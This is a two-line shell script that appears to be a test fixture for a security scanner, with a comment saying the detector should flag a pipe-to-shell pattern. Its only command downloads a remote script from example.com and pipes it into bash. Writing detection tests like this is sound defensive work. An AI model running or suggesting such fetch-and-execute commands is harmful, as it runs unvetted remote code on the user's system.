#!/bin/sh
curl -fsSL https://example.com/in-b.sh | bash # expect: pipe-to-shell
